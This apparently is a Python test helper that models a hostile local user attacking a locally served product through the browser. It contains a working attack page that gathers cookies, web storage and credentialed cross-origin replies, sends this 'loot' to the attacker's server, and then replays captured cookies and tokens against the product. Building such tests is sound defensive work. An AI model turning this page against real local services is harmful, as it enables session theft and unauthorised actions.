"""Another user of this machine, who serves a page of their own to the browser that has a product's page open.

Their server runs as uid 65534 and writes down everything it is sent; their page asks for all that a page can ask for. What
they learn is then tried at the product's port over plain sockets, by the same uid.
"""

import http.client
import json
import subprocess
from urllib.parse import urlsplit

AS_NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--no-new-privs"]

SERVER = r'''
import http.server, json, sys, threading
heard = []

class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *_): pass
    def answer(self, kind, body, status=200):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Service-Worker-Allowed", "/")
        self.end_headers()
        self.wfile.write(body)
    def take(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        heard.append({"path": self.path, "headers": list(self.headers.items()), "body": body.decode("utf8", "replace")})
    def do_GET(self):
        if self.path == "/heard":
            return self.answer("application/json", json.dumps(heard).encode())
        self.take()
        if self.path.startswith("/page"):
            return self.answer("text/html", PAGE.encode())
        if self.path.startswith("/worker.js"):
            return self.answer("text/javascript", b"onfetch = () => {}")
        self.answer("text/plain", b"x")
    def do_POST(self):
        self.take()
        self.answer("text/plain", b"x")

PAGE = sys.stdin.read()
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
print(server.server_address[1], flush=True)
server.serve_forever()
'''

# What a page can read and ask for, at its own place and at each spelling of the product's.
PAGE = """<!doctype html><meta charset="utf-8"><title>A link to follow</title><body><script type="module">
const targets = TARGETS;
const loot = { cookie: document.cookie, name: window.name, local: { ...localStorage }, session: { ...sessionStorage } };
const note = (key, value) => (loot[key] = String(value));
const asked = [];
const load = (tag, src) => asked.push(new Promise((done) => {
  const element = document.createElement(tag);
  element.onload = element.onerror = done;
  element.src = src;
  document.body.append(element);
}));
load("img", "/own.png");
const spelling = new BroadcastChannel("session");
spelling.onmessage = ({ data }) => note("channel", JSON.stringify(data));
spelling.postMessage({ wants: true });
asked.push(navigator.serviceWorker?.register("/worker.js", { scope: "/" }).catch(() => {}));
for (const target of targets) {
  for (const path of ["/", "/act", "/events?page=x", "/session", "/icon.svg"]) load("img", target + path);
  load("iframe", target + "/");
  load("script", target + "/main.js");
  for (const mode of ["no-cors", "cors"]) {
    for (const [path, method, body] of [["/session", "GET"], ["/events?page=x", "GET"],
      ["/session", "POST", "x"], ["/act", "POST", JSON.stringify(LIST)]]) {
      const gone = AbortSignal.timeout(2_000);
      asked.push(fetch(target + path, { method, body, mode, credentials: "include", signal: gone })
        .then((reply) => reply.text()).then((text) => note(mode + target + method + path, text)).catch(() => {}));
    }
  }
}
const sleep = new Promise((done) => setTimeout(done, 5_000));
await Promise.race([Promise.all(asked), sleep]);
await fetch("/loot", { method: "POST", body: JSON.stringify(loot) });
document.title = "done";
</script>"""


class Stranger:
    """The other user; `product` is where the page that they are after is served, by every spelling of it."""

    def __init__(self, product, action):
        self.port = urlsplit(product).port
        self.action = action
        names = {urlsplit(product).hostname, "127.0.0.1", "localhost", "x.localhost"}
        targets = [f"http://{name}:{self.port}" for name in sorted(names)]
        page = PAGE.replace("TARGETS", json.dumps(targets)).replace("LIST", json.dumps(action))
        self.process = subprocess.Popen([*AS_NOBODY, "/usr/bin/python3", "-c", SERVER], text=True,
                                        stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        self.process.stdin.write(page)
        self.process.stdin.close()
        self.own_port = int(self.process.stdout.readline())
        self.places = [f"http://{name}:{self.own_port}/page" for name in ("127.0.0.1", "localhost", "x.localhost")]

    @property
    def heard(self):
        """Everything that the server was sent."""
        connection = http.client.HTTPConnection("127.0.0.1", self.own_port)
        connection.request("GET", "/heard")
        return json.loads(connection.getresponse().read())

    def wait_for_visit(self, page, place):
        page.goto(place)
        page.wait_for_function("document.title === 'done'")

    def keys(self):
        """Every value that they were sent and that could open something, as whole headers to send."""
        cookies = {value for each in self.heard for name, value in each["headers"] if name.lower() == "cookie"}
        bearers = {value for each in self.heard for name, value in each["headers"] if name.lower() == "authorization"}
        values = {part.strip().partition("=")[2] for cookie in cookies for part in cookie.split(";")}
        return [{}, *({"Cookie": each} for each in cookies), *({"Authorization": each} for each in bearers),
                *({"Authorization": f"Bearer {each}"} for each in values if each)]

    def tries(self):
        """Tries each key at the product's port; answers what opened anything: none."""
        heads = [[key, name] for key in self.keys() for name in (f"127.0.0.1:{self.port}", f"localhost:{self.port}")]
        script = [*AS_NOBODY, "/usr/bin/python3", "-c", TRY]
        given = json.dumps([self.port, heads, self.action])
        return json.loads(subprocess.run(script, input=given, text=True, capture_output=True, check=True).stdout)

    def stop(self):
        self.process.terminate()
        self.process.wait(30)
        self.process.stdout.close()


TRY = r'''
import http.client, json, sys
port, heads, action = json.load(sys.stdin)
opened = []
for key, host in heads:
    for method, path, body in [("POST", "/act", json.dumps(action)), ("GET", "/events?page=x", None), ("GET", "/session", None)]:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
        headers = {**key, "Host": host, "Origin": "http://" + host, "Content-Type": "application/json"}
        connection.request(method, path, body, headers)
        reply = connection.getresponse()
        if reply.status == 200: opened.append([method, path, host, sorted(key)])
        connection.close()
print(json.dumps(opened))
'''
